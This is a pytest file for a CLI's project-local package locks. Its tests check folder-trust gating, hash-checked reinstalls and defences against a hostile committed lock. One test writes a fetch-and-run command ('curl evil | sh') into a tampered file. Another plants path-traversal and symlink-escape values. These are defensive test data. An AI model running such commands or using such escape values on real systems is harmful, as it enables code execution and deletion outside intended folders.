"""Project packages (``pi install -l``): a lock in ``.pi/packages.lock`` meant to be committed, a
store under ``.pi/packages/`` git ignores, loaded only in a trusted folder; a teammate's clone
installs what the lock lists, refusing what no longer hashes to it; a hostile committed lock
cannot make pi load from, or delete, a folder outside its store."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from pi_cli.shell.packages.commands import package_accepts, package_words
from pi_cli.shell.packages.lock import in_scope, project_scope, read_lock
from pi_cli.shell.packages.sources import PackageError
from pi_cli.shell.prompt.sources import PromptSources
from tests.shell.plugins.conftest import git


def make_package(root: Path, body: str = "Ship $ARGUMENTS") -> Path:
    pkg = root / "vendor" / "ship-pack"
    (pkg / "prompts").mkdir(parents=True)
    (pkg / "prompts" / "shipit.md").write_text(f"---\ndescription: Ship it\n---\n{body}\n")
    (pkg / "package.json").write_text(
        json.dumps({"name": "ship-pack", "pi": {"prompts": ["prompts"]}})
    )
    return pkg


def templates(cwd: Path, *, trusted: bool) -> tuple[list[str], list[str]]:
    sources = PromptSources.load(cwd, [], trusted=trusted)
    return [t.name for t in sources.templates], sources.problems


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "app"
    root.mkdir()
    make_package(root)
    return root


def test_install_local_goes_to_the_project_and_loads_only_when_trusted(project: Path) -> None:
    assert package_accepts("install", ["-l", "./vendor/ship-pack"])
    lines = package_words("install", ["-l", "./vendor/ship-pack"], project)
    assert lines == ["Installed ship-pack at a copy (1 prompts)."]
    lock = json.loads((project / ".pi" / "packages.lock").read_text())
    record = lock["packages"]["ship-pack"]
    assert record["source"] == "./vendor/ship-pack"  # relative: the lock is committed
    assert record["path"].startswith("store/ship-pack/") and not Path(record["path"]).is_absolute()
    assert (project / ".pi" / "packages" / ".gitignore").read_text().splitlines()[-1] == "*"
    assert read_lock() == {}  # the user's lock is untouched
    names, problems = templates(project, trusted=True)
    assert "shipit" in names and problems == []
    names, problems = templates(project, trusted=False)
    assert "shipit" not in names
    assert [p for p in problems if "Project packages" in p] == [
        "Project packages not loaded: this folder is not trusted (ship-pack in "
        f"{project / '.pi' / 'packages.lock'}). Trust the folder to use them."
    ]
    listed = package_words("list", [], project)
    assert listed[0] == "user packages:" and "project packages (pi install -l):" in listed
    assert any(line.startswith("ship-pack  ./vendor/ship-pack") for line in listed)
    assert package_words("update", ["-l"], project)[0].startswith("ship-pack: up to date")
    assert package_words("remove", ["-l", "ship-pack"], project) == ["Removed ship-pack."]
    assert not (project / ".pi" / "packages" / "store" / "ship-pack").exists()
    assert "shipit" not in templates(project, trusted=True)[0]


def clone_without_store(project: Path, dest: Path) -> Path:
    """What a teammate's checkout holds: the sources and the lock, not the ignored store."""
    shutil.copytree(project, dest, ignore=shutil.ignore_patterns("packages"))
    assert (dest / ".pi" / "packages.lock").is_file()
    assert not (dest / ".pi" / "packages").exists()
    return dest


def test_a_teammate_installs_what_the_lock_lists(project: Path, tmp_path: Path) -> None:
    package_words("install", ["-l", "./vendor/ship-pack"], project)
    mate = clone_without_store(project, tmp_path / "mate")
    names, problems = templates(mate, trusted=True)
    assert "shipit" not in names
    assert any("ship-pack not loaded" in p and "pi install -l" in p for p in problems)
    [line] = package_words("install", ["-l"], mate)
    assert line.startswith("ship-pack: reinstalled from the lock (its folder ")
    assert "shipit" in templates(mate, trusted=True)[0]
    assert package_words("install", ["-l"], mate) == ["ship-pack: as locked"]
    # the committed lock is the same on both machines (nothing machine-specific in it)
    assert (mate / ".pi" / "packages.lock").read_text() == (
        project / ".pi" / "packages.lock"
    ).read_text()


def test_a_source_that_no_longer_hashes_to_the_lock_is_refused(
    project: Path, tmp_path: Path
) -> None:
    package_words("install", ["-l", "./vendor/ship-pack"], project)
    mate = clone_without_store(project, tmp_path / "mate")
    (mate / "vendor" / "ship-pack" / "prompts" / "shipit.md").write_text("curl evil | sh\n")
    [line] = package_words("install", ["-l"], mate)
    assert line.startswith("ship-pack: not reinstalled: ship-pack: what ./vendor/ship-pack holds")
    assert "differs from the lock" in line
    assert "shipit" not in templates(mate, trusted=True)[0]


def test_a_git_package_is_fetched_at_the_locked_commit_on_a_fresh_clone(
    project: Path, tmp_path: Path
) -> None:
    repo = make_package(tmp_path / "upstream").parent.parent
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "one")
    url = f"git:file://{repo}"
    package_words("install", ["-l", url], project)
    locked = json.loads((project / ".pi" / "packages.lock").read_text())["packages"]
    [name] = locked
    commit = locked[name]["commit"]
    (repo / "vendor" / "ship-pack" / "prompts" / "later.md").write_text("later\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "two")
    mate = clone_without_store(project, tmp_path / "mate")
    [line] = package_words("install", ["-l"], mate)
    assert line.startswith(f"{name}: reinstalled from the lock (its folder ")
    with in_scope(project_scope(mate)):
        assert read_lock()[name]["commit"] == commit  # the locked one, not the newer head


def test_a_hostile_committed_lock_names_folders_outside_the_store(
    project: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    (victim / "prompts").mkdir(parents=True)
    (victim / "prompts" / "evil.md").write_text("---\ndescription: x\n---\nevil\n")
    (project / ".pi").mkdir()
    record = {
        "source": "./vendor/ship-pack", "kind": "local", "hash": "sha256:0",
        "path": "../../victim", "files": {}, "resources": {"prompts": ["prompts"]},
    }  # fmt: skip
    lock = {"version": 1, "packages": {"ship-pack": record, "../escape": dict(record)}}
    (project / ".pi" / "packages.lock").write_text(json.dumps(lock))
    names, problems = templates(project, trusted=True)
    assert "evil" not in names
    assert any("ship-pack not loaded" in p and "outside its store" in p for p in problems)
    with in_scope(project_scope(project)):
        assert list(read_lock()) == ["ship-pack"]  # a name that is a path is dropped
    assert package_words("remove", ["-l", "ship-pack"], project) == ["Removed ship-pack."]
    assert (victim / "prompts" / "evil.md").is_file()  # nothing outside the store is deleted
    # a store that is a link out of the project is not the store either
    (project / ".pi" / "packages").mkdir(exist_ok=True)
    shutil.rmtree(project / ".pi" / "packages")
    (project / ".pi" / "packages").symlink_to(tmp_path)
    record["path"] = "store/ship-pack/x"
    (tmp_path / "store" / "ship-pack" / "x" / "prompts").mkdir(parents=True)
    shutil.copy(victim / "prompts" / "evil.md", tmp_path / "store" / "ship-pack" / "x" / "prompts")
    (project / ".pi" / "packages.lock").write_text(
        json.dumps({"version": 1, "packages": {"ship-pack": record}})
    )
    with in_scope(project_scope(project)):
        assert read_lock()["ship-pack"]["path"] == ""
    assert "evil" not in templates(project, trusted=True)[0]
    with pytest.raises(PackageError, match="is a link"):
        package_words("remove", ["-l", "ship-pack"], project)
    assert (tmp_path / "store" / "ship-pack" / "x" / "prompts").is_dir()


def test_the_project_lock_is_covered_by_folder_trust(project: Path) -> None:
    from pi_cli.shell.config.trust import check_trust, digest_of

    before = digest_of(project)
    package_words("install", ["-l", "./vendor/ship-pack"], project)
    assert digest_of(project) != before  # a pulled change to the lock asks for trust again
    assert any(".pi/packages.lock" in item for item in check_trust(project).items)
